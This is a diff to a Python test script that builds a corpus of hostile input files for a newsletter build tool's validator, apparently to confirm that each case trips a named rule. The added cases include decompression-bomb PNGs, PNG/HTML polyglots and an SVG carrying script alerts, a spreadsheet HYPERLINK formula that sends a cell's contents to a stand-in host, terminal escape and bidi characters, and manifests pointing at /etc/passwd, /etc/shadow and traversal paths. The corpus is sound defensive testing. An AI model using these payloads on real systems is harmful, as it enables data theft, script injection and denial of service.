@@ -4,7 +4,8 @@ Run ``python tests/hostile/make_corpus.py`` after changing a case. File names sa
 ``check`` must report: ``<case>.<CODE>.<ext>`` (that rule must fire) or ``<case>.any.<ext>``
 (whatever ``check`` says, nothing may crash, and a clean ``check`` must build).
 Folders: ``articles/`` (placed in an issue), ``settings/`` (replaces briefing.yaml),
-``issues/`` (replaces issue.yaml), ``pictures/`` (referenced by an article as images/x.<ext>).
+``issues/`` (replaces issue.yaml), ``pictures/`` (referenced by an article as images/x.<ext>),
+``manifests/`` (the issue's 签发 record ``manifest.json``, beside a good article).
 """
 
 from __future__ import annotations
@@ -103,6 +104,17 @@ ARTICLES: dict[str, str | bytes] = {
     "html-comment-open.any.md": article(body="正文<!-- 没有结束的注释，后"),
     "yaml-body-links.any.yaml": "title: 标题\nsource: 局\nbody: |\n  正文[链接](http://a.b/c,d)中文,后。\n",
     "yaml-binary-tag.F003.md": "---\n!!binary aGVsbG8=\n",
+    # round two (#22)
+    "png-bomb-40k.P004.md": article(body="![图](images/bomb-40k.png)"),
+    "png-html-polyglot.P004.md": article(body="![图](images/polyglot.png)"),
+    "svg-named-png.P003.md": article(body="![图](images/svg-named.png)"),
+    "html-with-png-signature.P004.md": article(body="![图](images/html-signature.png)"),
+    "formula-source.any.md": FM.format(title="公式", body=BODY).replace(
+        "source: 建设管理局", 'source: "=HYPERLINK(\\"http://x.example/?d=\\"&B3,\\"详情\\")"'
+    ),
+    "escape-in-title.F010.md": '---\ntitle: "标题\\e[2J清屏"\nsource: 局\n---\n\n' + BODY + "\n",
+    "bidi-title.any.md": article(title="标题\u202e倒序\u2066隔离"),
+    "many-findings.any.md": article(body="今年以来,街道把辖区划分为42个网格.\n\n" * 1000),
 }
 
 SETTINGS: dict[str, str | bytes] = {
@@ -148,12 +160,54 @@ def jpeg() -> bytes:
     return out.getvalue()
 
 
+HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"
+
 PICTURES: dict[str, bytes] = {
     "text-as-picture.png": b"this is not a picture\n",
     "truncated.jpg": jpeg()[:300],
     "bare-signature.png": b"\x89PNG\r\n\x1a\n",
     "bomb.png": png(100_000, 100_000, data=zlib.compress(b"\x00" * 1000)),
     "zero.png": png(0, 0, data=zlib.compress(b"")),
+    "bomb-40k.png": png(40_000, 40_000, data=zlib.compress(b"\x00" * 4096)),
+    "polyglot.png": png(8, 8) + HTML,
+    "svg-named.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
+    "html-signature.png": b"\x89PNG\r\n\x1a\n" + HTML,
+}
+
+# A good record's shape, for the records below (the digests are of nothing in particular).
+DIGEST = "0" * 64
+
+
+def record(inputs: dict[str, object] | None = None, **extra: object) -> str:
+    import json
+
+    data = {
+        "format": "briefing-manifest/1",
+        "issue": "2018-028",
+        "inputs": inputs if inputs is not None else {},
+        "settings": {},
+        "outputs": {},
+        **extra,
+    }
+    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"
+
+
+MANIFESTS: dict[str, str | bytes] = {
+    "deep-nesting.R002.json": '{"format": ' + "[" * 10_000 + "]" * 10_000 + "}",
+    "dotdot-input.R002.json": record({"../target.txt": {"sha256": DIGEST}}),
+    "dotdot-inside.R002.json": record({"issues/2018-028/../../../etc/passwd": {"sha256": DIGEST}}),
+    "absolute-input.R002.json": record({"/etc/shadow": {"sha256": DIGEST}}),
+    "windows-input.R002.json": record({"C:\\Windows\\win.ini": {"sha256": DIGEST}}),
+    "other-file.R002.json": record({"notes/secret.txt": {"sha256": DIGEST}}),
+    "settings-dotdot.R002.json": record(settings={"../briefing.yaml": {"sha256": DIGEST}}),
+    "bad-sha.R002.json": record({"issues/2018-028/01-good.md": {"sha256": "xyz"}}),
+    "inputs-list.R002.json": record([]),  # type: ignore[arg-type]
+    "wrong-format.R002.json": '{"format": "briefing-manifest/0"}\n',
+    "not-json.R002.json": "{broken\n",
+    "huge-number.R002.json": '{"format": ' + "9" * 5000 + "}\n",
+    "gb18030.R002.json": '{"format": "签发记录"}\n'.encode("gb18030"),
+    "empty.R002.json": "",
+    "top-level-list.R002.json": "[]\n",
 }
 
 
@@ -163,6 +217,7 @@ def main() -> None:
         ("settings", SETTINGS),
         ("issues", ISSUES),
         ("pictures", PICTURES),
+        ("manifests", MANIFESTS),
     ):
         target = HERE / folder
         target.mkdir(parents=True, exist_ok=True)
